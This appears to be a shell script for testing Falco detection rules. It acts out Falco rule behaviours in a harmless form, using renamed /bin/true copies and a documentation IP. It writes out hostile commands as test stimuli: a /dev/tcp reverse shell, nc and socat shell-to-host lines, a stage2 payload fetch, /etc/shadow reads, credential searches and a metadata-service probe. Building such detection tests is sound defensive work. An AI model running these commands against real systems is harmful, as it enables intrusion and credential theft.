#!/bin/sh
# The behaviours of tests/rules/record-live.sh, done for real on this host: `sh live-behaviours.sh
# WORK CGDIR HOSTIP` as root, in a session of its own. Everything is harmless by construction:
# - files are created in WORK or as empty throwaway files next to system ones, and removed at once;
# - attacker tools (nc, socat, nmap, xmrig, kubectl, scp, curl) are copies of /bin/true named so:
#   the rules judge the program and its arguments, and nothing runs;
# - connections to public addresses go to 198.51.100.77 (TEST-NET-2, a documentation range) and are
#   non-blocking: the connect starts (EINPROGRESS) and is closed;
# - attempts that need privileges run as nobody and fail with EPERM (setuid, mount), or refuse to
#   work (login); the module load is of a file that is no module (and these kernels have no module
#   support);
# - sensitive files are only read: /etc/shadow by a copy of python named postgres, /etc/passwd
#   through a path climbing out of a web root;
# - the "API server" connected to from the container is 198.51.100.77:6443, non-blocking as above;
# - the one user added (falco-live-tmp, no home, no shell) is deleted right after;
# - "in a container" means in CGDIR, a docker-style cgroup with no runtime behind it.
# rules/tests/live.test.yaml asserts the alerts of the recorded capture.
set -u
W=$1 CG=$2 IP=$3
PY=/usr/bin/python3
cd "$W" || exit 1
in_container() { sh -c 'echo $$ >'"$CG"'/cgroup.procs && exec "$@"' in_container "$@"; }
as_nobody() { setpriv --reuid=65534 --regid=65534 --clear-groups "$@"; }
# A non-blocking connect to IP PORT (argv), UDP when a third argument is given: the destination
# never needs to answer.
CONNECT_PY='
import socket, sys
kind = socket.SOCK_DGRAM if len(sys.argv) > 3 else socket.SOCK_STREAM
s = socket.socket(socket.AF_INET, kind)
s.setblocking(False)
try:
    s.connect((sys.argv[1], int(sys.argv[2])))
except BlockingIOError:
    pass
s.close()'
# connect_nb PROGRAM IP PORT [udp]: that connect by PROGRAM (an interpreter's copy).
connect_nb() { "$1" -c "$CONNECT_PY" "$2" "$3" ${4:+udp}; }
mkdir -p bin srv kube home/.ssh data mnt
for t in nc socat nmap xmrig kubectl scp curl; do cp /bin/true "bin/$t"; done
cp "$(readlink -f $PY)" bin/cat
cp "$(readlink -f $PY)" bin/java
cp "$(readlink -f $PY)" bin/postgres
cp /bin/sh bin/mysqld
printf '#!/bin/sh\nsh -c "$@"\n' >bin/npm
printf '#!/bin/sh\nsh -c ":" "bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"\n%s/bin/curl -s http://198.51.100.77/stage2\n' "$W" >srv/nginx
printf '#!/bin/sh\ntar cf - "$@"\n' >kube/runc
cp "$(command -v script)" srv/runc
chmod +x bin/npm srv/nginx kube/runc
echo "export PATH=/usr/bin" >home/.bashrc
printf 'customer,card\n' >data/customers.db
printf 'dump\n' >data/backup.sql
printf 'not a kernel module\n' >data/rootkit.ko

# ---- Falco's stable set
# Read sensitive file trusted after startup: a "postgres" (a copy of python) reads /etc/shadow once
# it has run for more than 5 s; it runs beside the behaviours below and is waited for at the end.
bin/postgres -c 'import time; time.sleep(6); open("/etc/shadow").close()' &
PG=$!
cat /etc/shadow >/dev/null                                   # Read sensitive file untrusted
# Directory traversal monitored file read: a path climbing out of a web root to /etc/passwd, read
# by a program whose parent is no shell (timeout runs cat).
timeout 5 cat "$W/srv/../../../../etc/passwd" >/dev/null
# System user interactive: nobody runs login, which refuses to work without root and exits.
as_nobody login </dev/null >/dev/null 2>&1
ln -s /etc/shadow data/shadow-link                           # Create Symlink Over Sensitive Files
ln /etc/shadow data/shadow-hardlink && rm -f data/shadow-hardlink # Create Hardlink Over Sensitive Files
shred -u data/customers.db                                   # Remove Bulk Data from Disk
echo x >/var/log/falco-live-rules.log                        # Clear Log Activities (truncation)
rm /var/log/falco-live-rules.log                             # Clear Log Activities (removal)
cp /bin/true /dev/shm/falco-live-rules && /dev/shm/falco-live-rules # Execution from /dev/shm
rm -f /dev/shm/falco-live-rules
$PY -c '
import os
fd = os.memfd_create("payload", 0)
os.write(fd, open("/bin/true", "rb").read())
pid = os.fork()
if pid == 0:
    os.execv("/proc/self/fd/%d" % fd, ["payload"])
os.waitpid(pid, 0)'                                          # Fileless execution via memfd_create
sleep 30 &
SP=$!
$PY -c 'import ctypes, sys; ctypes.CDLL(None).ptrace(16, int(sys.argv[1]), 0, 0)' $SP # PTRACE attached
kill -KILL $SP; wait $SP 2>/dev/null
$PY -c 'import ctypes; ctypes.CDLL(None).ptrace(0, 0, 0, 0)' # PTRACE anti-debug attempt
find "$W" -name id_rsa >/dev/null                            # Search Private Keys or Passwords
grep -r aws_secret_access_key "$W/home" >/dev/null           # Find AWS Credentials
timeout 5 ssh -o BatchMode=yes -o ConnectTimeout=1 -p 443 tunnel@198.51.100.77 true 2>/dev/null # Disallowed SSH Connection Non Standard Port
in_container srv/runc -qec "sh -c true" /dev/null >/dev/null # Terminal shell in container
in_container bin/nc -e /bin/sh 198.51.100.77 4444            # Netcat Remote Code Execution in Container
in_container $PY -c "$CONNECT_PY" 198.51.100.77 6443          # Contact K8S API Server From Container (port 6443)
in_container $PY -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()' # Packet socket
# Linux Kernel Module Injection Detected: finit_module (313) of a file that is no module, on a
# kernel without module support.
in_container $PY -c 'import ctypes, os; ctypes.CDLL(None).syscall(313, os.open("data/rootkit.ko", os.O_RDONLY), b"", 0)'
# Redirect STDOUT/STDIN to Network Connection in Container: bash puts a socket on its stdin.
$PY -c '
import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1); s.settimeout(20)
open("port", "w").write(str(s.getsockname()[1]))
try:
    c, _ = s.accept(); c.close()
except OSError:
    pass' &
LP=$!
sleep 1
in_container bash -c 'true 0<>/dev/tcp/127.0.0.1/'"$(cat port)"
wait $LP 2>/dev/null

# ---- Falco's incubating set
tee -a home/.bashrc </dev/null >/dev/null                    # Modify Shell Configuration File
touch /etc/cron.d/falco-live-rules && rm -f /etc/cron.d/falco-live-rules # Schedule Cron Jobs
bin/mysqld -c '/bin/true; :'                                 # DB program spawned process
connect_nb bin/cat 198.51.100.77 4444                        # System procs network activity
HTTPS_PROXY=http://198.51.100.77:3128 bin/curl https://example.com/ # Program run with disallowed http proxy env
as_nobody $PY -c 'import os
try:
    os.setuid(0)
except PermissionError:
    pass'                                                    # Non sudo setuid
useradd -M -N -r -s /usr/sbin/nologin falco-live-tmp && userdel falco-live-tmp # User mgmt binaries
cp /bin/true /dev/.falco-live-rules && rm -f /dev/.falco-live-rules # Create files below dev
in_container $PY -c "$CONNECT_PY" 169.254.169.254 80         # Contact cloud metadata service / EC2
in_container dpkg -l >/dev/null                              # Launch Package Management Process in Container
in_container bin/nmap -sT 10.0.0.0/30                        # Launch Suspicious Network Tool in Container
bin/nmap -sT 10.0.0.0/30                                     # Launch Suspicious Network Tool on Host
touch home/.bash_history && rm home/.bash_history            # Delete or rename shell history
cp /bin/true data/suid-copy && chmod u+s data/suid-copy      # Set Setuid or Setgid bit
in_container bin/scp data/backup.sql x@198.51.100.77:        # Launch Remote File Copy Tools in Container
as_nobody $PY -c '
import ctypes, sys
ctypes.CDLL(None).mount(b"none", sys.argv[1].encode(), b"tmpfs", 0, None)' "$W/mnt" # Mount by unexpected process
in_container bin/curl -o /tmp/tool http://198.51.100.77/tool # Launch Ingress Remote File Copy Tools in Container
in_container cat /proc/self/environ >/dev/null               # Read environment variable from /proc files
GLIBC_TUNABLES=glibc.malloc.mxfast=0 su --help >/dev/null    # Potential Local Privilege Escalation via Environment Variables Misuse
connect_nb $PY 198.51.100.77 41641 udp                       # Unexpected UDP Traffic
in_container unshare -p -f /bin/true                         # Launch Excessively Capable Container (pid 1 of a new pid namespace)
# Exfiltrating Artifacts via Kubernetes Control Plane (tar reads nothing when it writes to /dev/null).
in_container kube/runc data/backup.sql >data/backup.tar

# ---- Falco's sandbox set
touch /usr/local/bin/falco-live-rules && rm -f /usr/local/bin/falco-live-rules # Write below binary dir
touch /etc/falco-live-rules.conf && rm -f /etc/falco-live-rules.conf # Write below etc
touch /root/.falco-live-rules && rm -f /root/.falco-live-rules # Write below root
mkdir /usr/local/bin/falco-live-rules.d && rmdir /usr/local/bin/falco-live-rules.d # Mkdir binary dirs
mkdir data/.hidden                                           # Create Hidden Files or Directories
bin/xmrig -o stratum+tcp://pool.example.com:3333             # Stratum, Known Cryptominer Process Executed
in_container bin/kubectl get secrets -A                      # Kubernetes Client Tool Launched in Container
cp /bin/true data/implant
in_container chmod +x data/implant                           # Container Drift Detected (chmod)
in_container $PY -c 'import os; os.close(os.open("data/dropped", os.O_CREAT | os.O_WRONLY, 0o755))' # Container Drift Detected (open+create)
echo aGkK | in_container base64 -d >/dev/null                # Decoding Payload in Container
script -qec whoami /dev/null >/dev/null                      # Basic Interactive Reconnaissance
bin/socat exec:/bin/sh tcp:198.51.100.77:4444                # Netcat/Socat Remote Code Execution on Host
srv/nginx                                                    # Web Server Spawned Shell / Suspicious Child / Reverse Shell
cat home/.bashrc >/dev/null                                  # Read Shell Configuration File
touch /usr/local/lib/falco-live-rules.so && rm -f /usr/local/lib/falco-live-rules.so # Write below monitored dir
connect_nb $PY 198.51.100.77 8443                            # Interpreted procs outbound network activity
in_container $PY -c '
import socket
s = socket.socket(); s.setblocking(False)
try:
    s.connect(("198.51.100.77", 30443))
except BlockingIOError:
    pass
s.close()'                                                   # Unexpected K8s NodePort Connection
in_container bin/npm "$W/bin/nc 198.51.100.77 4444"          # Network Tool Executed During NPM Package Install
# An interpreter serving on the host's address (Interpreted procs inbound network activity,
# Unexpected inbound connection source), and a "java" receiving a class file from it (Java Process
# Class File Download).
$PY -c '
import socket, sys
s = socket.socket(); s.bind((sys.argv[1], 0)); s.listen(1); s.settimeout(20)
open("port", "w").write(str(s.getsockname()[1]))
try:
    c, _ = s.accept(); c.sendall(b"\xca\xfe\xba\xbe\x00\x00\x00\x34Exploit"); c.close()
except OSError:
    pass' "$IP" &
LP=$!
sleep 1
bin/java -c '
import socket, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=10)
s.recv(64)
s.close()' "$IP" "$(cat port)"
wait $LP 2>/dev/null
wait $PG 2>/dev/null
true
